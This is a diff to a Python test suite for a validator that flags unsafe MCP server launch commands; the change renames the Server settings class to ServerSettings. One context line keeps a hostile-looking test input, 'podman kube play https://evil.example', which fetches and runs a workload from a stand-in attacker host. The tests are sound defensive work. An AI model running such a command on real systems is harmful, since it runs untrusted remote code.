@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 
 from interlock.config.launch import why_unsafe
 from interlock.config.launchers import Target, Way, launchers
-from interlock.config.settings import Server
+from interlock.config.settings import ServerSettings
 
 ORDINARY = """
 npx -y @modelcontextprotocol/server-filesystem /tmp
@@ -112,7 +112,7 @@ podman kube play https://evil.example
 
 
 def reasons(command: str) -> list[str]:
-    return why_unsafe(Server(command=tuple(shlex.split(command))), None)
+    return why_unsafe(ServerSettings(command=tuple(shlex.split(command))), None)
 
 
 @pytest.mark.parametrize("command", ORDINARY.strip().splitlines())
@@ -145,10 +145,10 @@ def test_t48_a_flag_that_the_table_does_not_know_is_unusual_wherever_it_stands(
 ) -> None:
     launcher, way = case
     command = ordinary(launcher, way)
-    assert why_unsafe(Server(command=tuple(command)), None) == []
+    assert why_unsafe(ServerSettings(command=tuple(command)), None) == []
     name = flag.partition("=")[0]
     if any(name in {*one.alone, *one.valued, *one.packages, *one.words} for one in launchers()[launcher]):
         return
     place = min(place, len(command) - 1)  # before the target: the words after it are the server's
     changed = [*command[:place], flag, *value, *command[place:]]
-    assert why_unsafe(Server(command=tuple(changed)), None)
+    assert why_unsafe(ServerSettings(command=tuple(changed)), None)
